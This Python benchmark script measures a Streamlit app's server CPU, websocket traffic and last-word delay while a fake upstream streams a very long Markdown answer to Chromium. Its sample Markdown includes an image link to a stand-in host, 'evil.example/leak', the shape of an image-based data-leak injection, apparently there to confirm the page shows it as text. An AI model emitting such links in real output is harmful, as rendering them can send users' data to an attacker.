"""Benchmark a long streamed answer end to end: server CPU, websocket bytes, last-word delay.

Run ``python bench/long_answer.py`` (``--ref main`` adds a "before" row: that git ref's app,
extracted with ``git archive`` into a temporary directory, run the same way in the same run).
A real ``streamlit run`` (``start_app``) asks the loopback ``FakeUpstream``, which streams a
283,000-character Markdown answer (paragraphs, lists, code, links) in 50-character chunks over
about 18 s; Chromium shows the page. ``--shape paragraph`` sends one huge paragraph instead
(no blank line at all: the worst case for the live view's tail).

Measured from Enter until the page has settled after the answer:

- server CPU: user + system time of the ``streamlit`` process, from ``/proc/<pid>/stat``;
- websocket bytes: every frame the page received (Playwright's ``framereceived``), and that
  total over the answer's length;
- last word: from the upstream writing its last chunk to the websocket frame holding the last
  word (Playwright's clock: the server's share, roughly), and to the last word being in the
  page (a MutationObserver looks only at what each mutation adds, so watching costs little);
- "of it live": the CPU and bytes until the last word's frame (the live view and its end;
  the rest is the page's rerun after the answer, which draws the whole history again);
- copies: how many times the last word is in the page at the end (1: no block shown twice);
- page busy after: the page's long tasks (PerformanceObserver ``longtask``, each ≥ 50 ms of its
  main thread) from the upstream's last chunk until the page is idle: the live view's end and
  the run after the answer, drawn by the browser.

Prints a table; targets (issue 24): CPU ≤ 2 s, bytes ≤ 3× the answer, last word ≤ 1.5 s.
"""

from __future__ import annotations

import argparse
import os
import subprocess
import sys
import tempfile
import time
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from playwright.sync_api import Page, WebSocket, sync_playwright  # noqa: E402

from components.devtools.browser import (  # noqa: E402
    launch_browser,
    send_prompt,
    start_app,
    wait_for_idle,
)
from components.devtools.upstream import FakeUpstream, sse  # noqa: E402

KEY = "sk-bench-0123456789abcdef"
LAST = "Zqlastwordk"
WAIT_MS = 600_000
# Installed before Enter: the wall-clock time (ms) the last word first appears in the page.
OBSERVER_JS = f"""
(() => {{
  window.__lastSeen = null;
  const has = (node) => (node.textContent || '').includes({LAST!r});
  new MutationObserver((records) => {{
    if (window.__lastSeen !== null) return;
    for (const r of records) {{
      const hit = r.type === 'characterData' ? has(r.target) : [...r.addedNodes].some(has);
      if (hit) {{ window.__lastSeen = Date.now(); return; }}
    }}
  }}).observe(document.body, {{childList: true, subtree: true, characterData: true}});
  window.__longTasks = [];
  new PerformanceObserver((list) => {{
    for (const e of list.getEntries()) {{
      window.__longTasks.push([performance.timeOrigin + e.startTime, e.duration]);
    }}
  }}).observe({{type: "longtask"}});
}})();
"""
# The page's long tasks (each ≥ 50 ms of the main thread) that started after ``since`` (wall ms).
BUSY_AFTER_JS = (
    "(since) => window.__longTasks.filter(([at]) => at >= since).reduce((s, [, d]) => s + d, 0)"
)
COPIES_JS = f"""
(() => {{
  const main = document.querySelector('[data-testid="stMain"]') || document.body;
  return main.textContent.split({LAST!r}).length - 1;
}})()
"""

SECTIONS = [
    "## Part {i}\n\n",
    "The picture shows a **receipt** from a café on a wooden table, photographed at an angle "
    "in warm evening light; the paper is creased in two places and the printing has faded "
    "towards the bottom, but every line can still be read. Item {i} is listed near the top "
    "with its price in `CNY`, and a handwritten note beside it says it was shared.\n\n",
    "- coffee, large: 4.50\n- cake of the day: 6.00\n- see [the menu](https://example.org/m{i})"
    "\n- service: included\n\n",
    "```python\ntotal = sum([4.50, 6.00, {i}])\nprint(f'total: {{total:.2f}}')\n```\n\n",
    "A note in the corner says ![stamp](http://evil.example/leak?q={i}) and <b>paid</b>; both "
    "are shown as text. The date reads 3 May and the time 19:42, which matches the light.\n\n",
    "| item | price |\n|---|---|\n| tea | 3.00 |\n| item {i} | 1.{i} |\n\n",
]


def long_answer(size: int, shape: str) -> str:
    """Return a Markdown answer of ``size`` characters ending with the last word."""
    end = f" {LAST}.\n"
    if shape == "paragraph":
        words, i = [], 0
        while sum(map(len, words)) < size:
            words.append(f"word{i} ")
            i += 1
        body = "".join(words)
    else:
        parts, i = [], 0
        while sum(map(len, parts)) < size:
            parts.append(SECTIONS[i % len(SECTIONS)].format(i=i))
            i += 1
        body = "".join(parts)
    return body[: size - len(end)] + end


def chunks(text: str, size: int) -> list[str]:
    """Cut ``text`` into ``size``-character deltas, the last one holding the whole last word."""
    pieces = [text[i : i + size] for i in range(0, len(text), size)]
    if len(pieces) > 1 and LAST not in pieces[-1]:
        pieces[-2:] = [pieces[-2] + pieces[-1]]
    return pieces


def cpu_seconds(pid: int) -> float:
    """User + system CPU seconds of ``pid`` so far."""
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


@dataclass(frozen=True)
class Row:
    label: str
    chars: int
    stream_s: float
    cpu_s: float
    live_cpu_s: float  # until the last word's frame: the live view's share (the rest: the rerun)
    ws_bytes: int
    live_bytes: int
    last_frame_s: float  # upstream's last chunk → the frame with the last word reaches the page
    last_word_s: float
    copies: int
    busy_after_s: float  # the page's long tasks after the upstream's last chunk


def extract(ref: str, into: Path) -> Path:
    """Write ``ref``'s tree into ``into`` (``git archive``: no worktree, no checkout)."""
    archive = subprocess.run(
        ["git", "archive", ref], cwd=ROOT, check=True, capture_output=True
    ).stdout
    subprocess.run(["tar", "-x", "-C", str(into)], input=archive, check=True)
    return into / "app.py"


def run_once(label: str, script: str, text: str, args: argparse.Namespace) -> Row:
    deltas = chunks(text, args.chunk)
    reply = sse(deltas, delay=args.seconds / len(deltas))
    with FakeUpstream(default=reply) as up, sync_playwright() as pw:
        app = start_app({"KANTU_BASE_URL": up.base_url, "KANTU_API_KEY": KEY}, script=script)
        browser = launch_browser(pw)
        try:
            page: Page = browser.new_context(locale="en-US").new_page()
            page.set_default_timeout(WAIT_MS)
            received, frame_at, live = [0], [0.0], [0, 0.0]

            def on_frame(payload: str | bytes) -> None:
                received[0] += len(payload)
                has_word = (LAST.encode() if isinstance(payload, bytes) else LAST) in payload
                if has_word and not frame_at[0]:  # Playwright's own time: a rough split
                    frame_at[0] = time.time()
                    live[:] = [received[0], cpu_seconds(app.process.pid)]

            def on_socket(ws: WebSocket) -> None:
                ws.on("framereceived", on_frame)

            page.on("websocket", on_socket)
            page.goto(app.url)
            wait_for_idle(page, timeout=WAIT_MS)
            page.evaluate(OBSERVER_JS)
            cpu_before, received[0] = cpu_seconds(app.process.pid), 0
            send_prompt(page, "Describe every detail of this receipt.")
            page.wait_for_function("window.__lastSeen !== null", timeout=WAIT_MS)
            seen_ms = page.evaluate("window.__lastSeen")
            wait_for_idle(page, timeout=WAIT_MS)
            cpu = cpu_seconds(app.process.pid) - cpu_before
            sent = received[0]
            copies = page.evaluate(COPIES_JS)
            arrived, finished = (
                next(at for kind, _, at in up.events if kind == name)
                for name in ("arrived", "finished")
            )
            finished_wall = time.time() - (time.monotonic() - finished)
            busy_ms = page.evaluate(BUSY_AFTER_JS, finished_wall * 1000)
        finally:
            browser.close()
            app.stop()
    return Row(
        label,
        len(text),
        finished - arrived,
        cpu,
        live[1] - cpu_before,
        sent,
        live[0],
        frame_at[0] - finished_wall,
        seen_ms / 1000 - finished_wall,
        copies,
        busy_ms / 1000,
    )


def print_table(rows: list[Row], args: argparse.Namespace) -> None:
    print(
        f"\n{rows[0].chars:,}-character answer ({args.shape}) in {args.chunk}-character chunks;"
        " targets: CPU ≤ 2 s, websocket ≤ 3× the answer, last word ≤ 1.5 s"
    )
    head = (
        "app",
        "stream s",
        "server CPU s",
        "of it live",
        "websocket MB",
        "× answer",
        "of it live",
        "last word sent s",
        "last word seen s",
        "copies",
        "page busy after s",
    )
    size = len(long_answer(rows[0].chars, args.shape).encode())
    lines = [head] + [
        (
            r.label,
            f"{r.stream_s:.1f}",
            f"{r.cpu_s:.2f}",
            f"{r.live_cpu_s:.2f}",
            f"{r.ws_bytes / 1e6:.2f}",
            f"{r.ws_bytes / size:.2f}",
            f"{r.live_bytes / size:.2f}",
            f"{r.last_frame_s:.2f}",
            f"{r.last_word_s:.2f}",
            str(r.copies),
            f"{r.busy_after_s:.2f}",
        )
        for r in rows
    ]
    widths = [max(len(line[i]) for line in lines) for i in range(len(head))]
    for i, line in enumerate(lines):
        print("  ".join(c.rjust(w) for c, w in zip(line, widths, strict=True)))
        if i == 0:
            print("  ".join("-" * w for w in widths))


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--chars", type=int, default=283_000)
    parser.add_argument("--chunk", type=int, default=50)
    parser.add_argument("--seconds", type=float, default=18.0, help="the upstream's pace")
    parser.add_argument("--shape", choices=["markdown", "paragraph"], default="markdown")
    parser.add_argument("--ref", help="also run this git ref's app first (the 'before' row)")
    args = parser.parse_args()
    text = long_answer(args.chars, args.shape)
    rows = []
    with tempfile.TemporaryDirectory(prefix="kantu-before-") as tmp:
        if args.ref:
            script = str(extract(args.ref, Path(tmp)))
            rows.append(run_once(args.ref, script, text, args))
            print_table(rows, args)
        rows.append(run_once("this tree", "app.py", text, args))
    print_table(rows, args)


if __name__ == "__main__":
    main()
